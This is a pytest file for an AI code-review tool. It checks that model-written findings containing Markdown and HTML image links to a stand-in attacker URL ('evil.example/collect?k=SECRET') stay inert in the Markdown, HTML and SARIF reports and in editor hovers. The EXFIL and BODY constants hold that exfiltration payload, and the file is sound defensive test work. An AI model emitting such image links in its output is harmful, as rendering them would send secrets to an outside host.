"""Model-written Markdown that would fetch a URL when shown: inert in reports and hovers."""

from __future__ import annotations

import asyncio

import pytest
from lsprotocol import types

from deep_review.cli import main
from deep_review.panel.scripted import ScriptedModelServer
from tests.hostile.scenario import KEY_ENV, configure, finding, project, submit
from tests.lsp.editor import editor_session
from tests.support.gitrepo import GitRepo

EXFIL = "https://evil.example/collect?k=SECRET"
BODY = (
    f"Read this: ![status]({EXFIL}) and ![ref][logo] then <img src='{EXFIL}'>.\n\n"
    f"[logo]: {EXFIL}\n\nIn code it stays verbatim: `![x](y)`."
)


async def test_images_in_findings_never_render(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    project(repo)
    steps = [submit(finding(title=f"Title ![t]({EXFIL})", body=BODY))]
    with ScriptedModelServer({"claude-x": steps}) as server:
        monkeypatch.setenv(KEY_ENV, "sk-test")
        configure(repo, server, "claude-x")
        formats = ["--format", "md", "--format", "html", "--format", "sarif"]
        argv = ["review", "--repo", str(repo.root), *formats]
        assert await asyncio.to_thread(main, argv) == 0

    reports = repo.root / ".deep-review" / "reviews"
    markdown = next(reports.glob("*.md")).read_text()
    assert f"![status]({EXFIL})" not in markdown and f"!\\[status]({EXFIL})" in markdown
    assert "![ref][logo]" not in markdown and "<img" not in markdown
    assert "`![x](y)`" in markdown
    html = next(reports.glob("*.html")).read_text()
    assert f'src="{EXFIL}' not in html and "<img src='https" not in html
    assert "img-src data:" in html  # and the page's policy would block a remote image anyway
    sarif = next(reports.glob("*.sarif")).read_text()
    assert f"![status]({EXFIL})" not in sarif

    async with editor_session(repo.root) as editor:
        await editor.wait_for(lambda: editor.diagnostics("app.py"))
        shown = await editor.hover("app.py", 6)  # re-anchored to its evidence, os.system
    assert shown is not None and isinstance(shown.contents, types.MarkupContent)
    assert f"![status]({EXFIL})" not in shown.contents.value
    assert f"![t]({EXFIL})" not in shown.contents.value
    assert "<img" not in shown.contents.value
    assert "Read this:" in shown.contents.value
